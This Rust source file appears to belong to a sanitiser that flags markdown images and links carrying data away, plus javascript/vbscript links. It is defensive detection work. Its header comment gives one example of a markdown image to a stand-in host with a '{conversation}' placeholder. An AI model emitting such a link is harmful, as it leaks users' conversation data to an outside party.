//! Links and images that would carry data away when they are shown or followed.
//!
//! Good: `https://jira.example.com/browse/PAY-12?focusedId=3`. Bad:
//! `![](https://x.example/p?d={conversation})`.

use alloc::string::String;
use alloc::vec::Vec;

use super::detect::Hit;
use super::links::{self, Link};
use super::text::Text;
use crate::types::{Severity, Span};

/// Rule id of an image that carries data.
const IMAGE: &str = "sanitise.exfil_image";
/// Rule id of a link that carries data or runs code.
const LINK: &str = "sanitise.exfil_link";

/// Longest label of an image, in characters.
const LABEL_MAX: usize = 197;

/// Looks at the addresses in a plain text, markdown included.
pub(super) fn scan(text: &Text<'_>) -> Vec<Hit> {
    let plain = text.as_str();
    let mut out = Vec::new();
    for found in links::find(plain) {
        let (head, rest) = plain.split_at_checked(found.start).unwrap_or((plain, ""));
        let image = is_markdown_image(head);
        // A hole ends the address early: look at what stands right behind it too.
        let len = plain.get(found.start..found.end).map_or(0, |t| t.chars().count());
        let tail: String = rest
            .chars()
            .take(len + 40)
            .take_while(|c| !c.is_whitespace() && !matches!(c, ')' | '|' | '"'))
            .collect();
        let hole = links::parse(&tail).is_some_and(|link| link.has_hole());
        rate(&found.link, image, hole, text.cover(found.start, found.end), &mut out);
    }
    out
}

/// Looks at the address of an HTML attribute.
pub(super) fn attribute(target: &Text<'_>, out: &mut Vec<Hit>) {
    let Some(link) = links::parse(target.as_str()) else { return };
    let hole = link.has_hole();
    // Pictures of ordinary newsletters carry ids; only a hole tells, of a picture or not.
    rate(&link, false, hole, target.cover(0, target.as_str().len()), out);
}

fn rate(link: &Link, image: bool, hole: bool, span: Span, out: &mut Vec<Hit>) {
    let web = link.scheme.is_empty() || link.scheme.starts_with("http");
    let code = matches!(link.scheme.as_str(), "javascript" | "vbscript");
    let (rule, severity) = if image && web && (hole || link.carries_data()) {
        (IMAGE, Severity::High)
    } else if web && hole {
        (LINK, Severity::High)
    } else if code {
        (LINK, Severity::Medium)
    } else {
        return;
    };
    out.push(Hit { rule, severity, span });
}

/// Whether a text ends with `![..](`.
fn is_markdown_image(head: &str) -> bool {
    let Some(label) = head.strip_suffix("](") else { return false };
    let mut back = label.chars().rev();
    back.by_ref().take(LABEL_MAX).any(|c| c == '[') && back.next() == Some('!')
}
